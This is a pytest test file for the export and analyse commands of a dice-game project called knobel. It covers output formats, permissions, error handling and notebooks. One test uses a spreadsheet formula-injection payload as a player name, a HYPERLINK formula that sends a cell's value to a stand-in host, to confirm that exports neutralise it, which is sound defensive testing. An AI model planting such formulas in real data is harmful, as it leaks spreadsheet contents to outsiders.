"""`knobel export`, `knobel analyse`, and the notebooks that read the output of both and of the arena."""

import asyncio
import csv
import json
import runpy
import stat
from dataclasses import replace
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from knobel import notation
from knobel.core import Chance
from knobel.record_checks import NoProof, check_record
from knobel.seeded_dice import commitment
from knobel.server.database.store import Log, Store
from knobel.server.operator.export import ExportedGame, games_of
from knobel.server.tables.log.table_log import entry
from knobel.tables import commands
from knobel.tables.events import encode
from knobel.tables.game_dice import ServerDice
from knobel.tables.settings import Settings
from knobel.tables.state import fold
from tests.cli.conftest import Run, fails
from tests.logs import ANN, BOT, played
from tests.spreadsheets import read_xlsx

NOTEBOOKS = Path(__file__).parents[2] / "examples" / "notebooks"


@pytest.fixture(scope="module")
def database(tmp_path_factory: pytest.TempPathFactory) -> str:
    """Return a database of three tables: a finished and an unfinished game; a game with a user's bot; a damaged log."""
    name = str(tmp_path_factory.mktemp("data") / "knobel.db")
    first = commands.open_table(ANN, Settings(game="knister", seats=2))
    first += commands.seat_bot(fold(first), ANN, None, "casual", ("casual",))
    own = commands.open_table(ANN, Settings(game="knapp_daneben", seats=2))
    own += commands.sit(fold(own), BOT, 1)
    logs = {"AAAAAA": played(played(first), to_the_end=False), "BBBBBB": played(own), "CCCCCC": played(first)[:4]}

    async def fill() -> None:
        store = await Store.open(name)
        for code, events in logs.items():
            entries = [entry(seq, event) for seq, event in enumerate(events)]
            if code == "CCCCCC":
                entries[-1] = replace(entries[-1], data='{"kind":"move","time":1,"seat":0,"action":"a1"}')
            await store.append(Log(code), entries)
        await store.close()

    asyncio.run(fill())
    return name


def in_csv(value: Any) -> str:
    """Return a JSON value as CSV shows it."""
    return "" if value is None else value if isinstance(value, str) else json.dumps(value)


def in_json(value: Any) -> Any:
    """Return a Parquet value as JSON shows it."""
    return value.isoformat(timespec="milliseconds") if isinstance(value, datetime) else value


@pytest.mark.parametrize(
    ("options", "games"),
    [
        (["--game", "knapp-daneben"], {"BBBBBB-1"}),
        (["--finished"], {"AAAAAA-1", "BBBBBB-1"}),
        (["--game", "knister", "--finished"], {"AAAAAA-1"}),
        (["--from", "2023-11-14", "--to", "2023-11-14"], {"AAAAAA-1", "AAAAAA-2", "BBBBBB-1"}),
        (["--from", "2023-11-15"], set()),
        (["--to", "2023-11-13"], set()),
    ],
)
def test_games_are_chosen(database: str, tmp_path: Path, run: Run, options: list[str], games: set[str]) -> None:
    target = tmp_path / "games.jsonl"
    ran = run("export", str(target), "--database", database, *options)
    lines = [json.loads(line) for line in target.read_text().splitlines()]
    assert {f"{line['table']}-{line['number']}" for line in lines} == games
    assert ran.status == 1, "the damaged log is reported"


def test_choices_that_cannot_be(database: str, tmp_path: Path, run: Run) -> None:
    target = str(tmp_path / "games.csv")
    for options, message in (
        (["--from", "2026-05-02", "--to", "2026-05-01"], "--from is after --to"),
        (["--from", "yesterday"], "--from"),
        (["--game", "chess"], "there is no game 'chess'"),
    ):
        fails(run("export", target, "--database", database, *options), message)
    assert not (tmp_path / "games.csv").exists()


def test_games_are_exported_as_lines(database: str, tmp_path: Path, run: Run) -> None:
    import polars as pl  # noqa: PLC0415 -- its threads do not survive a fork

    for form in ("csv", "jsonl", "parquet"):
        target = tmp_path / f"games.{form}"
        ran = run("export", str(target), "--database", database)
        # The damaged log is reported, and all other games are written.
        assert (ran.status, ran.out) == (1, f"3 games are in {target}.\n")
        assert ran.err.count("\n") == 1
        assert "table CCCCCC: event 3" in ran.err
    for target in tmp_path.iterdir():
        assert stat.S_IMODE(target.stat().st_mode) == 0o600
    with (tmp_path / "games.csv").open(encoding="utf-8-sig") as file:
        csv_lines = list(csv.DictReader(file))
    lines = [json.loads(line) for line in (tmp_path / "games.jsonl").read_text().splitlines()]
    table = pl.read_parquet(tmp_path / "games.parquet")
    # All formats hold the same values, except that CSV has no null, and neither CSV nor JSON has a time type.
    assert csv_lines == [{name: in_csv(value) for name, value in line.items()} for line in lines]
    moment = pl.Datetime("ms", "UTC")
    types = [table.schema[name] for name in ("started", "ended", "assisted", "score")]
    assert types == [moment, moment, pl.Boolean, pl.Int64]
    assert [{name: in_json(value) for name, value in row.items()} for row in table.to_dicts()] == lines
    seats = [(line["table"], line["number"], line["bot"], line["score"] is None) for line in lines]
    assert sorted(seats, key=str) == [
        ("AAAAAA", 1, "casual", False),
        ("AAAAAA", 1, None, False),
        ("AAAAAA", 2, "casual", True),
        ("AAAAAA", 2, None, True),
        ("BBBBBB", 1, "own", False),
        ("BBBBBB", 1, None, False),
    ]
    assert lines[0]["started"] == "2023-11-14T22:13:20.000+00:00"
    assert lines[0]["ended"] > lines[0]["started"]
    assert lines[0]["assisted"] is False


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_names_do_not_become_formulas(form: str, tmp_path: Path, run: Run) -> None:
    formula = '=HYPERLINK("http://x/?"&A1)'
    log = commands.open_table(replace(ANN, name=formula), Settings(game="knister", seats=1))
    name = str(tmp_path / "knobel.db")

    async def fill() -> None:
        store = await Store.open(name)
        await store.append(Log("AAAAAA"), [entry(seq, event) for seq, event in enumerate(played(log))])
        await store.close()

    asyncio.run(fill())
    assert run("export", str(tmp_path / "games"), "--database", name).status == 0
    assert run("export", str(tmp_path / f"games.{form}"), "--database", name).status == 0
    assert run("analyse", str(tmp_path / "games"), "--output", str(tmp_path / f"seats.{form}")).status == 0
    for file in ("games", "seats"):
        data = (tmp_path / f"{file}.{form}").read_bytes()
        if form == "xlsx":
            rows = [dict(zip(read_xlsx(data)[0], row, strict=False)) for row in read_xlsx(data)[1:]]
            assert rows[0]["name"] == formula
        else:
            assert data.startswith(b"\xef\xbb\xbf")
            assert next(csv.DictReader(data.decode("utf-8-sig").splitlines()))["name"] == f"'{formula}"


def test_an_empty_export_has_its_columns_and_types(tmp_path: Path, run: Run) -> None:
    import polars as pl  # noqa: PLC0415 -- its threads do not survive a fork

    empty = str(tmp_path / "empty.db")

    async def made() -> None:
        await (await Store.open(empty)).close()

    asyncio.run(made())
    assert run("export", str(tmp_path / "games.parquet"), "--database", empty).status == 0
    assert pl.read_parquet(tmp_path / "games.parquet").schema["started"] == pl.Datetime("ms", "UTC")


@pytest.mark.parametrize("target", ["games", "games.csv", "games.jsonl", "games.parquet", "games.xlsx"])
def test_a_failed_export_leaves_nothing_and_does_not_block_the_next(
    database: str, target: str, tmp_path: Path, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / target
    fails(run("export", str(path), "--database", str(tmp_path / "no.db")), "there is no database .*no.db")
    assert not list(tmp_path.iterdir())

    def full(*_: object) -> None:
        raise OSError(28, "No space left on device")

    with monkeypatch.context() as patched:
        patched.setattr(ExportedGame, "lines", full)
        patched.setattr(ExportedGame, "record", full)
        fails(run("export", str(path), "--database", database), f"cannot write {path}: no space left on device")
    assert not list(tmp_path.iterdir())
    # The state after a command was killed.
    unfinished = tmp_path / f"{target}-unfinished"
    if path.suffix:
        unfinished.write_text("x")
    else:
        unfinished.mkdir()
        (unfinished / "AAAAAA-1.jsonl").write_text("x")
    assert run("export", str(path), "--database", database).status == 1
    assert [found.name for found in tmp_path.iterdir()] == [target]


@pytest.mark.slow
def test_games_are_exported_as_records_and_analysed(database: str, tmp_path: Path, run: Run) -> None:
    folder = tmp_path / "games"
    assert run("export", str(folder), "--database", database).status == 1
    assert [stat.S_IMODE(path.stat().st_mode) for path in (folder, folder / "AAAAAA-1.jsonl")] == [0o700, 0o600]
    assert sorted(file.name for file in folder.iterdir()) == ["AAAAAA-1.jsonl", "AAAAAA-2.jsonl", "BBBBBB-1.jsonl"]
    record, _ = notation.load((folder / "AAAAAA-1.jsonl").read_text().splitlines(), finished=True)
    assert sorted(record.bots, key=str) == [None, "casual"]
    (folder / "notes.jsonl").write_text("Ann plays well.\n")
    table = tmp_path / "seats.csv"
    ran = run("analyse", str(folder), "--json", "--output", str(table))
    assert ran.status == 0
    assert ran.err.count("knobel: left out ") == 2
    found = json.loads(ran.out)
    assert found["files"] == 2
    assert {(line["player"], line["bot"]) for line in found["players"]} == {
        ("Ann", False),
        ("casual", True),
        ("own", True),
    }
    assert sum(line["win"] for line in found["players"]) == 2
    assert len(table.read_text().splitlines()) == 5
    # The coach's ledger adds up to the score.
    coached = run("analyse", str(folder), "--json", "--coach", "quick")
    assert all(line["luck"] is not None and line["loss"] >= 0 for line in json.loads(coached.out)["players"])
    shown = run("analyse", str(folder))
    assert "knapp_daneben" in shown.out
    assert "casual (bot)" in shown.out


def test_invalid_exports_and_folders_are_refused(database: str, tmp_path: Path, run: Run) -> None:
    there = tmp_path / "there.csv"
    there.write_text("")
    fails(run("export", str(there), "--database", database), "there.csv already exists")
    fails(run("export", str(tmp_path), "--database", database), "already exists")
    fails(
        run("export", str(tmp_path / "x.ods"), "--database", database), "ends in none of .csv, .jsonl, .parquet, .xlsx"
    )
    fails(run("export", str(tmp_path / "y.csv"), "--database", str(tmp_path / "no.db")), "no.db")
    fails(run("analyse", str(tmp_path)), "no records")
    fails(run("analyse", str(tmp_path / "nowhere")), "no records")
    (tmp_path / "a.jsonl").write_text("{}\n")
    ran = run("analyse", str(tmp_path))
    assert ran.status == 2
    assert ran.err.endswith("is the record of a finished game\n")


@pytest.mark.slow
def test_notebooks_load_ask_and_plot(
    database: str, tmp_path: Path, run: Run, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("MPLBACKEND", "agg")
    bots = "random,lookahead"
    assert run("arena", "knapp_daneben", "--bots", bots, "--games", "6", "--output", "levels.parquet").status == 0
    assert run("export", "evenings.parquet", "--database", database).status == 1
    for notebook in ("levels", "evenings"):
        runpy.run_path(str(NOTEBOOKS / f"{notebook}.py"))
        assert (tmp_path / f"{notebook}.svg").read_text().startswith("<?xml")
    told = capsys.readouterr().out
    assert "lookahead" in told
    assert "people" in told


def test_the_seed_of_a_deal_is_exported_when_it_is_published() -> None:
    seed = "ab" * 32
    log = commands.open_table(ANN, Settings(game="knister", seats=1), deal="2026-11-25/knister")
    log += commands.start(fold(log), ANN, seed=seed)
    while (play := fold(log).play) is not None and not play.over:
        log += (
            commands.roll(fold(log), ANN, play.at, None, ServerDice(seed))
            if isinstance(play.turn, Chance)
            else commands.move(fold(log), ANN, play.at, play.game.legal(play.state, 0)[0])
        )
    lines = [encode(event) for event in log]
    secret, published = (
        "".join(game.record()).encode()
        for seeds in ({}, {commitment(seed): seed})
        for game in games_of("AAAAAA", lines, seeds)
    )
    with pytest.raises(NoProof, match="published"):
        check_record(secret)
    checked = check_record(published)
    assert (checked.proven, checked.commitment) == (True, commitment(seed))
